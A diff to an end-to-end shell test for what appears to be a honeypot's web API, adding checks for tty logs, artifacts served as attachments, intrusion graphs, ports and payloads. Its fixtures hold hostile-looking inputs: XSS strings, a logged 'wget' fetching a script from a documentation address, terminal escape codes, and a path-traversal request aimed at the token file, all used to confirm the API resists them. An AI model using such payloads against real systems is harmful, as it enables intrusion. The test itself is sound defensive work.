@@ -4,7 +4,9 @@
 # helpers_web/store_fill: no intrusion needed), `karakuri web` serving it on
 # a loopback port, checked with curl and jq: 401 without the token and with a
 # wrong one, the bodies equal to the CLI's --json, events in pages chained by
-# next, openapi.json, the security headers, hostile requests survived, a
+# next, a tty log as asciicast v2, intrusions and a graph, an artifact as an attachment (a link in
+# the artifacts directory refused), ports and payloads, openapi.json, the
+# security headers, hostile requests survived, a
 # brute force of the token answered 429; then, with a Docker engine, the API
 # served by `karakuri run` under [web] listen.
 . "$KARAKURI_SRC/tests/e2e/lib.sh"
@@ -16,6 +18,16 @@ conf=$(e2e_config "")
 var="$E2E_TMP/var"
 
 # ---- the store ----
+# a tty log (asciicast v2, as src/ssh/ttylog.c stores it) and a downloaded
+# file, as artifacts named by their SHA-256
+cast='{"version": 2, "width": 80, "height": 24, "timestamp": 1796119204}
+[0.1, "i", "uname -a\r"]
+[0.2, "o", "Linux web01 5.10.0-honey #1 SMP x86_64 GNU/Linux\r\n"]'
+mkdir -p "$var/artifacts"
+cast_sha=$(printf '%s\n' "$cast" | sha256sum | cut -c1-64)
+printf '%s\n' "$cast" >"$var/artifacts/$cast_sha"
+dl_sha=$(printf '<script>alert(1)</script>\n' | sha256sum | cut -c1-64)
+printf '<script>alert(1)</script>\n' >"$var/artifacts/$dl_sha"
 {
   echo '{"type":"sensor.start","ts":"2026-12-01T10:00:00Z","version":"e2e"}'
   echo '{"type":"session.connect","ts":"2026-12-01T10:00:01Z","session":"w1","src_ip":"198.51.100.7","src_port":40000}'
@@ -23,6 +35,8 @@ var="$E2E_TMP/var"
   echo '{"type":"login.success","ts":"2026-12-01T10:00:03Z","session":"w1","src_ip":"198.51.100.7","username":"\"><img src=x onerror=alert(1)>","password":"<script>alert(1)</script>","honeynet":"hn-w1"}'
   echo '{"type":"command.input","ts":"2026-12-01T10:00:04Z","session":"w1","src_ip":"198.51.100.7","input":"wget http://203.0.113.5/x.sh; echo \u001b[2J \u009b31m"}'
   echo '{"type":"file.download","ts":"2026-12-01T10:00:05Z","honeynet":"hn-w1","url":"http://203.0.113.5/x.sh","src_ip":"10.13.0.2"}'
+  echo '{"type":"tty.log","ts":"2026-12-01T10:00:08Z","session":"w1","channel":0,"artifact":"'"$cast_sha"'","format":"asciicast-v2","size":1}'
+  echo '{"type":"port.opened","ts":"2026-12-01T10:00:08Z","proto":"tcp","port":2323}'
   echo '{"type":"session.closed","ts":"2026-12-01T10:00:09Z","session":"w1","src_ip":"198.51.100.7","duration_ms":8000,"reason":"client"}'
   echo '{"type":"session.connect","ts":"2026-12-01T11:00:00Z","session":"w2","src_ip":"198.51.100.8","src_port":40001}'
   for i in $(seq 1 240); do
@@ -124,7 +138,7 @@ while :; do
   after=$next
   ((pages < 10)) || e2e_fail "events pages never end"
 done
-e2e_assert_eq 3 "$pages" "pages of 100 for 248 events"
+e2e_assert_eq 3 "$pages" "pages of 100 for 250 events"
 cmp -s "$E2E_TMP/cli-events" "$E2E_TMP/api-events" || e2e_fail "paged events differ from events --json"
 # filters
 n=$(api "events?type=login&session=w1&limit=1000" | jq '.events | length')
@@ -148,12 +162,65 @@ e2e_assert_eq 200 "$(status)" "downloads status"
 jq -e '(.events | length) == 1 and .events[0].url == "http://203.0.113.5/x.sh" and .next == null' "$E2E_TMP/dl.json" >/dev/null ||
   e2e_fail "downloads: $(cat "$E2E_TMP/dl.json")"
 
+# sessions/ID/tty/N: the stored asciicast v2, the command's output in it
+api sessions/w1/tty/0 >"$E2E_TMP/tty0"
+e2e_assert_eq 200 "$(status)" "tty/0 status"
+grep -qi '^Content-Type: application/x-asciicast' "$E2E_TMP/headers" || e2e_fail "tty/0 not application/x-asciicast"
+head -1 "$E2E_TMP/tty0" | jq -e '.version == 2 and .width > 0' >/dev/null || e2e_fail "tty/0 is not asciicast v2"
+tail -n +2 "$E2E_TMP/tty0" | jq -rs 'map(select(.[1] == "o") | .[2]) | join("")' | grep -q "GNU/Linux" ||
+  e2e_fail "tty/0 lacks the command's output"
+api sessions/w1/tty/1 >/dev/null
+e2e_assert_eq 404 "$(status)" "tty/1 of a session with one log"
+api sessions/w2/tty/0 >/dev/null
+e2e_assert_eq 404 "$(status)" "tty/0 of a session without logs"
+
+# artifacts/SHA256: an attachment, never rendered; only 64 hex digits
+api "artifacts/$dl_sha" >"$E2E_TMP/art"
+e2e_assert_eq 200 "$(status)" "artifact status"
+printf '<script>alert(1)</script>\n' | cmp -s - "$E2E_TMP/art" || e2e_fail "the artifact's bytes differ"
+for h in "Content-Disposition: attachment; filename=\"$dl_sha\"" "Content-Type: application/octet-stream" \
+  "X-Content-Type-Options: nosniff"; do
+  grep -qiF "$h" "$E2E_TMP/headers" || e2e_fail "artifact header missing: $h"
+done
+ln -s "$var/web.token" "$var/artifacts/$(printf '%064d' 1)"
+api "artifacts/$(printf '%064d' 1)" >/dev/null
+e2e_assert_eq 404 "$(status)" "a link in the artifacts directory"
+api "artifacts/${dl_sha:0:63}" >/dev/null
+e2e_assert_eq 404 "$(status)" "63 hex digits"
+api "artifacts/..%2Fweb.token" >/dev/null
+e2e_assert_eq 404 "$(status)" "a path as an artifact"
+
+# intrusions: one per source; the graph of 198.51.100.7 has its login on
+# hn-w1's gateway
+api intrusions >"$E2E_TMP/intr.json"
+e2e_assert_eq 200 "$(status)" "intrusions status"
+jq -e 'length == 2 and .[0].src == "198.51.100.7" and .[0].sessions == 1 and .[0].downloads == 1 and .[0].hosts == 1' \
+  "$E2E_TMP/intr.json" >/dev/null || e2e_fail "intrusions: $(cat "$E2E_TMP/intr.json")"
+api intrusions/198.51.100.7/graph >"$E2E_TMP/graph.json"
+e2e_assert_eq 200 "$(status)" "graph status"
+jq -e '(.nodes | map(select(.kind == "attacker" and .ip == "198.51.100.7")) | length == 1) and
+  (.edges | map(select(.source == "attacker:198.51.100.7" and .target == "gateway:hn-w1" and .kind == "login" and .count == 1)) | length == 1)' \
+  "$E2E_TMP/graph.json" >/dev/null || e2e_fail "graph: $(cat "$E2E_TMP/graph.json")"
+api intrusions/203.0.113.77/graph >/dev/null
+e2e_assert_eq 404 "$(status)" "the graph of a source without sessions"
+api "intrusions/%3Cscript%3E/graph" >/dev/null
+e2e_assert_eq 404 "$(status)" "the graph of no address"
+
+# ports and payloads: the sensor's events, empty pages when none
+api ports >"$E2E_TMP/ports.json"
+e2e_assert_eq 200 "$(status)" "ports status"
+jq -e '(.events | length) == 1 and .events[0].port == 2323 and .next == null' "$E2E_TMP/ports.json" >/dev/null ||
+  e2e_fail "ports: $(cat "$E2E_TMP/ports.json")"
+api payloads >"$E2E_TMP/payloads.json"
+e2e_assert_eq 200 "$(status)" "payloads status"
+jq -e '.events == [] and .next == null' "$E2E_TMP/payloads.json" >/dev/null || e2e_fail "payloads: $(cat "$E2E_TMP/payloads.json")"
+
 # openapi.json: the file in docs/, as it is
 api openapi.json >"$E2E_TMP/openapi.json"
 e2e_assert_eq 200 "$(status)" "openapi.json status"
 cmp -s "$KARAKURI_SRC/docs/openapi.json" "$E2E_TMP/openapi.json" || e2e_fail "openapi.json is not docs/openapi.json"
 jq -e '.openapi | startswith("3.0")' "$E2E_TMP/openapi.json" >/dev/null || e2e_fail "openapi.json is not OpenAPI 3.0"
-for p in /health /events /sessions '/sessions/{id}' /hosts /downloads /openapi.json; do
+for p in /health /events /sessions '/sessions/{id}' '/sessions/{id}/tty/{n}' /hosts /downloads /ports /payloads '/artifacts/{sha256}' /intrusions '/intrusions/{src}/graph' /openapi.json; do
   jq -e --arg p "$p" '.paths[$p].get' "$E2E_TMP/openapi.json" >/dev/null || e2e_fail "openapi.json lacks $p"
 done
 
